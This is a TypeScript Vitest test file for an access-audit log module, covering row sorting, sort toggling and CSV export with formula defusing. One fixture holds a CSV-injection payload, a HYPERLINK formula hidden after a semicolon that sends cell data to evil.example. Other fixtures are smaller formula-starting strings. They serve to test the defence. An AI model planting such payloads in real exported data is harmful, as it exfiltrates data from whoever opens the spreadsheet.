import { formulaStarts } from '@portalflow/engine/text';
import { describe, expect, it } from 'vitest';
import { type AccessRow, accessRowsToCsv, nextSort, sortAccessRows } from '../src/audit/accessLog.ts';

const row = (id: number, over: Partial<AccessRow>): AccessRow => ({
  id,
  at: `2026-11-2${id}T10:00:00.000Z`,
  userId: `u${id}`,
  role: 'auditor',
  action: 'GET /api/instances/:id',
  instanceId: null,
  dataCategory: 'phi',
  outcome: 'allow',
  detail: null,
  emergencyAccessId: null,
  emergencyReason: null,
  workflowTitle: null,
  stepTitle: null,
  ...over,
});

const rows = [
  row(1, { userId: 'bob', outcome: 'deny', instanceId: 'i2' }),
  row(2, { userId: 'ana', instanceId: null }),
  row(3, { userId: null, instanceId: 'i1' }),
  row(4, { userId: 'ana', outcome: 'deny' }),
];

describe('sortAccessRows', () => {
  it('sorts by time both ways', () => {
    expect(sortAccessRows(rows, { key: 'at', direction: 'ascending' }).map((r) => r.id)).toEqual([
      1, 2, 3, 4,
    ]);
    expect(sortAccessRows(rows, { key: 'at', direction: 'descending' }).map((r) => r.id)).toEqual([
      4, 3, 2, 1,
    ]);
  });

  it('keeps the server order for ties and puts empty values last either way', () => {
    expect(sortAccessRows(rows, { key: 'userId', direction: 'ascending' }).map((r) => r.id)).toEqual([
      2, 4, 1, 3,
    ]);
    expect(sortAccessRows(rows, { key: 'userId', direction: 'descending' }).map((r) => r.id)).toEqual([
      1, 2, 4, 3,
    ]);
    expect(sortAccessRows(rows, { key: 'instanceId', direction: 'descending' }).map((r) => r.id)).toEqual([
      1, 3, 2, 4,
    ]);
  });

  it('sorts denials together', () => {
    expect(sortAccessRows(rows, { key: 'outcome', direction: 'descending' }).map((r) => r.outcome)).toEqual([
      'deny',
      'deny',
      'allow',
      'allow',
    ]);
  });

  it('does not change its input', () => {
    const copy = [...rows];
    sortAccessRows(rows, { key: 'role', direction: 'descending' });
    expect(rows).toEqual(copy);
  });
});

describe('nextSort', () => {
  it('flips the same column and starts a new one ascending', () => {
    expect(nextSort({ key: 'at', direction: 'descending' }, 'at')).toEqual({
      key: 'at',
      direction: 'ascending',
    });
    expect(nextSort({ key: 'at', direction: 'ascending' }, 'at')).toEqual({
      key: 'at',
      direction: 'descending',
    });
    expect(nextSort({ key: 'at', direction: 'descending' }, 'role')).toEqual({
      key: 'role',
      direction: 'ascending',
    });
  });
});

describe('accessRowsToCsv', () => {
  it('writes a header and one line per row, quoting and defusing formulas', () => {
    const csv = accessRowsToCsv([
      row(1, { detail: 'said "hi", left' }),
      row(2, { detail: '=HYPERLINK("x")', userId: null }),
    ]);
    const lines = csv.trimEnd().split('\n');
    expect(lines[0]).toBe(
      'id,at,userId,role,action,instanceId,dataCategory,outcome,detail,emergencyAccessId,emergencyReason',
    );
    expect(lines[1]).toBe(
      '1,2026-11-21T10:00:00.000Z,u1,auditor,GET /api/instances/:id,,phi,allow,"said ""hi"", left",,',
    );
    expect(lines[2]).toBe(
      '2,2026-11-22T10:00:00.000Z,,auditor,GET /api/instances/:id,,phi,allow,"\'=HYPERLINK(""x"")",,',
    );
    expect(csv.endsWith('\n')).toBe(true);
  });

  it('names the break-glass grant and its reason on rows that relied on one', () => {
    const csv = accessRowsToCsv([row(1, { emergencyAccessId: 'g-1', emergencyReason: 'Code blue, bed 4' })]);
    expect(csv.trimEnd().split('\n')[1]).toMatch(/,g-1,"Code blue, bed 4"$/);
  });

  it('leaves no formula anywhere, not even after a ";" mid-cell (European list separator)', () => {
    const csv = accessRowsToCsv([
      row(1, {
        emergencyAccessId: 'g-1',
        emergencyReason: 'Code blue;=HYPERLINK("http://evil.example/?"&A1)',
        detail: 'x\t+1|@SUM(A1)',
      }),
    ]);
    expect(csv).toContain('HYPERLINK');
    expect(formulaStarts(csv)).toBe(false);
  });

  it('writes only the header for no rows', () => {
    expect(accessRowsToCsv([])).toBe(
      'id,at,userId,role,action,instanceId,dataCategory,outcome,detail,emergencyAccessId,emergencyReason\n',
    );
  });
});
